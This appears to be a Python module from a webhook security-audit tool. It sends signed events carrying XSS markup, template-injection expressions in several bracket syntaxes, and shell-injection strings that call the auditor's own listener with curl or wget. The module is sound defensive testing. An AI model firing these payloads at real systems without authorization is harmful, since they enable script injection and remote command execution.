"""Whether text from an event is ever run: by a template, a shell or a browser."""

from collections.abc import Callable

from ghlctl.audit.about import About, Topic
from ghlctl.audit.kit import Genuine, Kit
from ghlctl.audit.probing import (
    Reading,
    always,
    any_of,
    called_back,
    changed,
    everywhere,
    must_hold,
    page_with,
    reply_has,
    token,
    upstream_has,
)
from ghlctl.audit.script import Check, Need, Script
from ghlctl.model.finding import Confidence, Severity

_FACTOR = 7919


def markup(kit: Kit) -> Script:
    """Marked-up text that must not come back as a page; upstream it may stand as it is."""
    probes = [
        changed(f"with {name} in every text", _marked_up(make), _shown_as_page(make))
        for name, make in _MARKS
    ]
    return (yield from must_hold(kit, probes, worth=Confidence.HIGH))


_MARKS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("an svg", lambda mark: f"<svg onload=alert('{mark}')>"),
    ("a script", lambda mark: f"<script>/*{mark}*/</script>"),
    ("an attribute", lambda mark: f'"><img src={mark} onerror=alert(1)>'),
)


def _marked_up(make: Callable[[str], str]) -> Callable[[Genuine, Kit], dict[str, object]]:
    return lambda genuine, _kit: everywhere(make(token(genuine)), genuine)


def _shown_as_page(make: Callable[[str], str]) -> Callable[[Genuine], Reading]:
    return lambda genuine: page_with(make(token(genuine)))


def templates(kit: Kit) -> Script:
    """A product of two numbers in the brackets of template languages."""
    factors = [kit.random.randrange(100_003, 999_983) for _ in _BRACKETS]
    probes = []
    for (before, after), factor in zip(_BRACKETS, factors, strict=True):
        asked, product = f"{before}{factor}*{_FACTOR}{after}", str(factor * _FACTOR)
        what = f"worked out {before}…{after} from the event's text"
        read = any_of(upstream_has(product, what), reply_has(product, what))
        probes.append(changed(f"with {asked}", _constantly(asked), always(read)))
    return (yield from must_hold(kit, probes))


_BRACKETS = (
    ("{{", "}}"),
    ("${", "}"),
    ("<%=", "%>"),
    ("#{", "}"),
    ("[[${", "}]]"),
    ("{%print(", ")%}"),
)


def _constantly(text: str) -> Callable[[Genuine, Kit], dict[str, object]]:
    return lambda genuine, _kit: everywhere(text, genuine)


def commands(kit: Kit) -> Script:
    """A sum that only a shell works out, as part of an address that only a shell then calls."""
    number = kit.random.randrange(100_003, 999_983)
    product = str(number * _FACTOR)
    sum_ = f"$(({number}*{_FACTOR}))"
    read = any_of(
        called_back(product, "ran a command from the event's text"),
        upstream_has(product, "let a shell work out the event's text"),
        reply_has(product, "let a shell work out the event's text"),
    )

    def fields(text: str) -> Callable[[Genuine, Kit], dict[str, object]]:
        def made(genuine: Genuine, kit: Kit) -> dict[str, object]:
            url = f"{kit.listener}/{genuine.canary.delivery_id}/{sum_}"
            call = f"curl -s {url}||wget -qO- {url}"
            filled = text.replace("CALL", call).replace("SUM", f"echo {sum_}")
            return everywhere(filled, genuine) | {"phone": filled}

        return made

    probes = [changed(f"with {name}", fields(text), always(read)) for name, text in _SHELL]
    return (yield from must_hold(kit, probes, worth=Confidence.HIGH))


_SHELL = (
    ("a semicolon", "x; CALL #"),
    ("backticks", "`CALL`"),
    ("$()", "$(CALL)"),
    ("$() that prints", "$(SUM)"),
    ("a newline", "x\nCALL\n"),
    ("a single quote", "x'; CALL; '"),
    ("a double quote", 'x"; CALL; "'),
)


MARKUP = Check(
    About(
        id="INP-15",
        name="markup-reflected",
        topic=Topic.INPUT,
        title="Never shows an event's markup as a page",
        severity=Severity.HIGH,
        asks="genuinely signed events with markup in every text",
        correct="no page with it in the reply; upstream it may stand as it is, or encoded",
        why="a page that shows an event's text runs what strangers wrote into it",
        remedy="answer with JSON and a fixed text; encode where text is shown",
        references=(
            "CWE-79",
            "CWE-116",
            "ASVS v5.0.0-1.2.1",
            "ASVS v5.0.0-1.1.2",
            "API10:2023",
            "CVE-2023-46735",
        ),
    ),
    markup,
    frozenset({Need.KEY}),
)

TEMPLATES = Check(
    About(
        id="INP-16",
        name="template-injection",
        topic=Topic.INPUT,
        title="Never takes an event's text for a template",
        severity=Severity.CRITICAL,
        asks="genuinely signed events with a multiplication in the brackets of template languages",
        correct="the text stays as it is; its product is seen nowhere",
        why="what works out a product from an event's text also runs a stranger's code",
        remedy="give text to templates as values, never as part of the template",
        references=("CWE-1336", "CWE-94", "ASVS v5.0.0-1.3.7", "ASVS v5.0.0-1.3.2", "API10:2023"),
    ),
    templates,
    frozenset({Need.KEY, Need.UPSTREAM}),
)

COMMANDS = Check(
    About(
        id="INP-18",
        name="command-injection",
        topic=Topic.INPUT,
        title="Never lets a shell read an event's text",
        severity=Severity.CRITICAL,
        asks="genuinely signed events with shell syntax that would call the audit's own listener",
        correct="no call, and no sum worked out",
        why="whoever can put a name into a form upstream could run commands on the receiver",
        remedy="start programs with a list of arguments and no shell, or not at all",
        references=("CWE-78", "CWE-77", "ASVS v5.0.0-1.2.5", "API10:2023"),
    ),
    commands,
    frozenset({Need.KEY, Need.LISTENER}),
)

CHECKS = (MARKUP, TEMPLATES, COMMANDS)
